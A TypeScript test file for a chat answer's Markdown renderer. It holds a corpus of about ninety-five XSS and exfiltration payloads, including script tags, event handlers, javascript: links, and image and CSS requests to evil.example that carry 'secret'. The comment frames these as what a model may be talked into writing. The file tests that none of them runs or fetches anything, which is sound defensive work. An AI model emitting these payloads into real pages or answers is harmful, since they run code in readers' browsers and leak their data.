import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Blocks } from "./answer-block.tsx";
import AnswerBody from "./answer-body.tsx";
import { lexAnswer } from "./lex-answer.ts";
import { mendMarkdown } from "./mend-markdown.ts";

/** What a model may be talked into writing, to run something in the reader's browser or to carry words out of it. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "text <script>alert(1)</script> text",
  '<img src=x onerror="alert(1)">',
  "<img src='https://evil.example/?q=secret'>",
  "<img/src/onerror=alert(1)>",
  '<svg onload="alert(1)">',
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preconnect" href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action="https://evil.example"><input name=q><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<body onload="alert(1)">',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay>',
  '<input onfocus="alert(1)" autofocus>',
  '<details open ontoggle="alert(1)">x</details>',
  '<marquee onstart="alert(1)">x</marquee>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#x0A;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61;vascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  "[x](view-source:https://evil.example)",
  "[x](filesystem:https://evil.example/x)",
  '[x](https://evil.example" onmouseover="alert(1))',
  "[x](https://evil.example 'title\" onmouseover=\"alert(1)')",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x](//evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](javascript:alert(1))",
  '![x](https://evil.example/a.png" onerror="alert(1))',
  "![x][p]\n\n[p]: https://evil.example/pixel.png",
  '![](https://evil.example/a.png "title<script>alert(1)</script>")',
  "[![x](https://evil.example/in-link.png)](https://evil.example)",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "| <script>alert(1)</script> |\n|---|\n| ![x](https://evil.example/t.png) |",
  "- <iframe src=https://evil.example></iframe>",
  "> <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onload="alert(1)\ncode\n```',
  "`<script>alert(1)</script>`",
  "**<script>alert(1)</script>**",
  "$\\href{javascript:alert(1)}{x}$",
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "https://evil.example/<script>alert(1)</script>",
  "https://user:secret@evil.example/",
  'www.evil.example/"onmouseover="alert(1)',
  "<a@evil.example>",
  "[x](mailto:a@b.c?body=secret&bcc=evil@evil.example)",
  "[x](/account/delete)",
  "[x](//evil.example)",
  "[x](#top)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "{{constructor.constructor('alert(1)')()}}",
  "\u202e<script>alert(1)</script>",
  "<div\u0000onclick=alert(1)>",
];

const ALLOWED_TAGS = new Set(
  "p div section span h3 h4 h5 h6 strong em del code pre br a blockquote ul ol li input table thead tbody tr th td hr figure figcaption button svg path rect circle".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  "class href target rel referrerPolicy referrerpolicy dir start type checked disabled readOnly readonly aria-label aria-hidden aria-pressed aria-live tabindex tabIndex role scope data-caret xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d x y rx ry cx cy r".split(
    " ",
  ),
);
const TAG = /<\/?([a-zA-Z][^\s/>]*)((?:\s+[^\s=>"']+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE = /([^\s=>"']+)(?:="([^"]*)")?/g;

/** As it stands in the end, or with its half-written markup closed, as while it streams. */
const render = (text: string, open = false) =>
  renderToStaticMarkup(
    open ? (
      <Blocks tokens={lexAnswer(text, mendMarkdown) ?? []} caret settled={false} />
    ) : (
      <AnswerBody text={text} open={false} />
    ),
  );

describe("an answer's Markdown", () => {
  it("has a corpus worth the name", () => {
    expect(new Set(ATTACKS).size).toBeGreaterThanOrEqual(60);
  });

  it.each(
    ATTACKS.flatMap(
      (attack) =>
        [
          [attack, false],
          [attack, true],
        ] as const,
    ),
  )("runs and fetches nothing: %s (open: %s)", (attack, open) => {
    const markup = render(attack, open);
    const rest = markup.replace(TAG, (_, tag: string, attributes: string) => {
      expect(ALLOWED_TAGS).toContain(tag);
      for (const [, name = "", value = ""] of attributes.matchAll(ATTRIBUTE)) {
        expect(ALLOWED_ATTRIBUTES).toContain(name);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      }
      return "";
    });
    // whatever is left is text: no opening bracket in it that a browser would read as a tag
    expect(rest).not.toMatch(/<[a-zA-Z!/?]/);
    expect(markup).not.toMatch(
      /\ssrc(set)?=|\sstyle=|\son\w+=|\sping=/i.test(rest) ? /$^/ : /<[^>]+\s(src|srcset|style|on\w+|ping)=/i,
    );
  });

  it("has teeth: the same check refuses markup that is passed through", () => {
    const leaked = ['<img src="x">', '<p onclick="x">a</p>', '<a href="javascript:x">a</a>', '<p style="x">a</p>'];
    for (const markup of leaked) {
      const tags = [...markup.matchAll(TAG)];
      const clean = tags.every(
        ([, tag = "", attributes = ""]) =>
          ALLOWED_TAGS.has(tag) &&
          [...attributes.matchAll(ATTRIBUTE)].every(
            ([, name = "", value = ""]) =>
              ALLOWED_ATTRIBUTES.has(name) && (name !== "href" || /^(https?:\/\/|mailto:)/.test(value)),
          ),
      );
      expect(clean).toBe(false);
    }
  });

  it("sends every link away without a referrer and says where it leads", () => {
    expect(render("[the docs](https://docs.example/a)")).toContain('rel="noopener noreferrer nofollow"');
    expect(render("[the docs](https://docs.example/a)")).toContain("(docs.example)");
    expect(render("[bank.example](https://evil.example/)")).toContain("(evil.example)");
    expect(render("https://docs.example/a")).not.toContain("(docs.example)");
    expect(render("[x](https://bank.example@evil.example/)")).toContain("(evil.example)");
    expect(render("[x](https://xn--80ak6aa92e.com)")).toContain("xn--80ak6aa92e.com");
    expect(render("[x](mailto:a@b.c?bcc=evil@evil.example)")).toContain('href="mailto:a@b.c"');
  });

  it("names a picture and its host instead of fetching it", () => {
    const markup = render("![a chart](https://pictures.example/c.png)");
    expect(markup).toContain("a chart (image at pictures.example)");
    expect(markup).not.toContain("<img");
  });

  it("shows HTML as the text it is, but keeps a line break in a cell", () => {
    expect(render("a <b>bold</b> word")).toContain("a &lt;b&gt;bold&lt;/b&gt; word");
    expect(render("| a |\n|---|\n| x<br>y |")).toContain("x<br/>y");
  });
});
